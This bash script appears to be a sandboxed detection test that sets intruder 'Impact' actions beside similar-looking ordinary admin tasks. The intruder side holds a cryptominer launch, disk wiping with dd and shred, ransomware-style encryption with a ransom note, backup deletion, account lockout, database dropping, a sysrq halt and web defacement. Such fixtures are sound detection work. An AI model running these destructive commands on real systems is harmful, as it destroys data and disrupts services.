#!/bin/bash
# Impact: what hurts. Beside it, work that looks alike. Everything is done to made-up files of the
# sandbox; what a machine would feel is asked of the kernel in a form that it refuses.

# The intruder, as root on the host.

host_mine() {
  mkdir -p /tmp/.x
  cp /opt/tactic /tmp/.x/xmrig
  /tmp/.x/xmrig -o stratum+tcp://203.0.113.66:3333 -u 4ExampleWallet --donate-level 1
  cp /opt/tactic /tmp/.x/kworkerd
  /tmp/.x/kworkerd
}

host_ask_a_pool() {
  curl -s -m 1 http://pool.supportxmr.com:8080/ || true
}

host_overwrite_disks() {
  dd if=/dev/zero of=/dev/sda bs=4096 count=1
  echo > /dev/sdb
  shred -n 1 /dev/sdb
}

host_encrypt() {
  mkdir -p /data/orders
  echo 1,lamp > /data/orders/october.csv
  echo 2,candle > /data/orders/november.csv
  find /data/orders -type f -exec openssl enc -aes-256-cbc -pbkdf2 -k example -in {} -out {}.locked \;
  mv /data/orders/october.csv /data/orders/october.csv.lockbit
  echo 'pay' > /data/orders/HOW_TO_DECRYPT.txt
}

host_destroy_backups() {
  mkdir -p /var/backups
  touch /var/backups/srv.tar
  rm -r -f /var/backups
  mkdir /var/backups
}

host_stop_services() {
  systemctl stop mysql || true
  pkill -9 postgres || true
}

host_write_boot_files() {
  mkdir -p /boot/grub
  echo 'set timeout=0' > /boot/grub/grub.cfg
}

host_try_a_fork_bomb() {
  bash -n -c ':(){ :|:& };:'
}

host_lock_people_out() {
  passwd -q -l ops
  echo 'ops:example' | chpasswd
}

host_remove_everything() {
  rm -r -f /data
  mkdir /data
}

host_empty_a_database() {
  psql -h 192.0.2.1 -c 'DROP DATABASE orders' || true
}

host_press_the_emergency_key() {
  echo h > /proc/sysrq-trigger || true
}

# The intruder, in the container: in a shell, and through its server.

container_stop_the_machine() {
  /opt/tactic stop
}

internet_run_commands() {
  exec 3<> /dev/tcp/172.18.0.2/8080
  printf 'GET /cgi-bin/status?replace_the_page HTTP/1.0\r\n\r\n' >&3
  cat <&3
}

served_replace_the_page() {
  cp /opt/tactic.sh /var/www/index.html
}

# Ordinary work.

internet_ask() {
  exec 3<> /dev/tcp/172.18.0.2/8080
  printf 'GET /cgi-bin/status?take_a_note HTTP/1.0\r\n\r\n' >&3
  cat <&3
}

served_take_a_note() {
  cp /etc/hosts /var/www/notes.txt
}

container_publish() {
  cp /etc/hosts /var/www/index.html
}

host_fetch() {
  curl -s -m 1 http://packages.example.org/
  grep -c stratum+tcp /opt/tactic.sh
  nc -z -w 1 203.0.113.66 3333
}

host_write_an_image() {
  dd if=/dev/zero of=/tmp/image bs=4096 count=1
  lsblk || true
  shred -n 1 -u /tmp/image
}

host_write_files() {
  mkdir -p /srv/tool
  echo 'read me' > /srv/tool/README.txt
  mv /srv/tool/README.txt /srv/tool/README.md
}

host_cron_encrypt_a_backup() {
  tar -c -f /var/backups/srv.tar -C / srv
  openssl enc -aes-256-cbc -pbkdf2 -k example -in /var/backups/srv.tar -out /var/backups/srv.tar.aes
  rm -f /var/backups/srv.tar
}

host_tty_restart_services() {
  systemctl stop mysql
  systemctl status mysql
  passwd -q -l ops
  passwd -q -u ops
}

host_look_at_services() {
  systemctl status mysql || true
  passwd -S ops
}

host_make_a_boot_menu() {
  printf '#!/bin/bash\necho "set timeout=5" > /boot/grub/grub.cfg\n' > /usr/local/sbin/update-grub
  chmod 755 /usr/local/sbin/update-grub
  update-grub
}

host_define_a_function() {
  bash -c 'check() { date | cat; }; check'
}

host_clean_up() {
  mkdir -p /srv/build/out
  rm -r -f /srv/build
}

host_ask_a_database() {
  sqlite3 /tmp/orders.db 'create table orders (id); drop table orders'
}

"$1"
